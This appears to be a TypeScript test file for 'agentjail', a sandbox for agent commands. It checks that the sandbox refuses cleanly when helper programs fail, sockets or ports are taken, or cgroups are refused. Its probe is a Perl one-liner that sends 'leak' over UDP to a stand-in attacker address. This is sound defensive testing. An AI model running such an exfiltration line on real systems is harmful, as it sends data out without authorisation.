/**
 * What a start needs and cannot have, by real means: programs that fail, a control socket, a control group, a port that
 * is taken. Each is refused in one line before the command runs, or told; nothing is left, and nothing gets out.
 */
import t, { type Test } from 'tap'
import type { Result } from '../lab/host.js'
import { evil } from '../lab/addresses.js'
import {
  broken,
  cwd,
  eachCase,
  granted,
  isolations,
  jailed,
  knocks,
  nothingLeft,
  openBench,
  pathOf,
  policy,
  policyPath,
  silence,
  start,
  type Bench,
} from './faults-kit.js'

/** Tries the attacker once: what runs against expectation, or before its rules, shows on the wire. */
const ran = [
  ...['perl', '-MIO::Socket::INET', '-e'],
  `my $to = IO::Socket::INET->new(PeerAddr => '${evil.v4}:443', Proto => 'udp');
   send $to, 'leak', 0 if $to;
   print "ran\\n"`,
]

const run = ({ lab, prefix }: Bench, argv: readonly string[] = ran) =>
  lab.agentjail([...prefix, '--', ...argv], { timeout: 60_000, cwd })

const refused = (t: Test, { code, stdout, stderr }: Result, name: string, why: RegExp) => {
  t.equal(code, 125, `${name}: refused: ${stderr}`)
  t.match(stderr, why, `${name}: says why`)
  t.notMatch(stderr, /unexpected|\n\s+at /, `${name}: for people`)
  t.equal(stdout, '', `${name}: the command did not run`)
}

/** The launch's and the gate's own programs: each fails when it is started. */
const programsFail = async (t: Test, bench: Bench) => {
  const { lab } = bench
  for (const name of ['bwrap', 'perl', 'nft']) {
    const mend = await broken(lab, await pathOf(lab, name), '#!/bin/sh\nexit 9\n')
    const result = await run(bench)
    await mend()
    refused(t, result, `${name} fails`, /^agentjail: /)
    t.same(jailed(lab), [], `${name} fails: no process of the jail`)
  }
  t.equal((await lab.agentjail(['gc'])).code, 0)
  await nothingLeft(t, lab, 'programs fail')
}

/** A gate whose Node does not start: the command is ended, and told why. */
const gateFails = async (t: Test, bench: Bench) => {
  const { lab } = bench
  const script = '#!/bin/sh\necho no such luck >&2\nexit 9\n'
  const mend = await broken(lab, await pathOf(lab, 'setpriv'), script)
  const result = await run(bench, knocks)
  await mend()
  t.match(
    result,
    { code: null, signal: 'SIGKILL', stderr: /gate.*no such luck.*the command is ended/s },
    'the command is ended',
  )
  await nothingLeft(t, lab, 'gate fails')
}

const socketTaken = async (t: Test, bench: Bench) => {
  const { lab } = bench
  const path = '/run/agentjail/control-faults.sock'
  await lab.run(['mkdir', '-p', `${path}/x`])
  refused(t, await run(bench), 'control socket', /^agentjail: .*control-faults\.sock/)
  await lab.run(['rm', '-r', path])
  await nothingLeft(t, lab, 'control socket')
}

const groupRefused = async (t: Test, bench: Bench) => {
  const { lab, isolation } = bench
  const limits = `${policy}limits: { pids: 50 }\n`
  lab.writeFile(policyPath, limits)
  const most = 'find /sys/fs/cgroup -maxdepth 2 -name cgroup.max.descendants'
  await lab.run(['sh', '-c', `for f in $(${most}); do echo 0 > $f; done`])
  const isBounded = (await lab.run(['sh', '-c', most])).stdout !== ''
  const result = await run(bench)
  await lab.run(['sh', '-c', `for f in $(${most}); do echo max > $f; done`])
  lab.writeFile(policyPath, policy)
  if (isolation === 'uid' && isBounded) refused(t, result, 'control group', /cgroup|control group/)
  else t.equal(result.code, 0, `runs without: ${result.stderr}`)
  await nothingLeft(t, lab, 'control group')
}

/** A port that a reload needs, and that the command itself has: the old policy stays in force. */
const portTaken = async (t: Test, bench: Bench) => {
  const { lab, isolation } = bench
  const takes = `use Socket; $| = 1; for my $f (AF_INET6, AF_INET) { socket(my $s, $f, SOCK_STREAM, 0);
    bind($s, $f == AF_INET ? pack_sockaddr_in(2222, INADDR_ANY) : pack_sockaddr_in6(2222, Socket::IN6ADDR_ANY)) and listen($s, 5) and push @k, $s }
    print "started\\n"; sleep 60`
  const jail = await start(bench, ['perl', '-e', takes])
  lab.writeFile(policyPath, `${policy}    - { host: github.com, ports: [2222] }\n`)
  const result = await lab.agentjail(['reload', 'faults', '-p', policyPath], { timeout: 60_000 })
  lab.writeFile(policyPath, policy)
  // On the host the gate takes a free port of its own.
  if (isolation === 'namespace') {
    t.equal(result.code, 125, `refused: ${result.stdout}`)
    t.match(result.stderr, /^agentjail: no further sockets for the gate: .*EADDRINUSE.*2222/)
  } else t.equal(result.code, 0, result.stderr)
  const held = await granted(lab)
  t.match(held.stdout, /path \/ok/, 'what was granted before works')
  jail.kill('SIGTERM')
  await jail.ended
  await nothingLeft(t, lab, 'port taken')
}

/** Milliseconds: bounds a hang, judges no speed. */
const timeout = 280_000
t.setTimeout(2 * timeout)
for (const isolation of isolations) {
  t.test(isolation, { timeout }, async (t) => {
    const bench = await openBench(t, isolation)
    // What the test itself changes is on the host's own disk from here on.
    for (const name of ['bwrap', 'perl', 'nft', 'setpriv'])
      await (
        await broken(bench.lab, await pathOf(bench.lab, name), '')
      )()
    await bench.lab.remember()
    const cases = {
      'programs that fail': programsFail,
      'a gate that does not start': gateFails,
      'no control socket': socketTaken,
      'no control group': groupRefused,
      'a port that is taken': portTaken,
    }
    await eachCase(t, bench, timeout, cases, (t, name) => silence(t, bench.lab, name))
  })
}
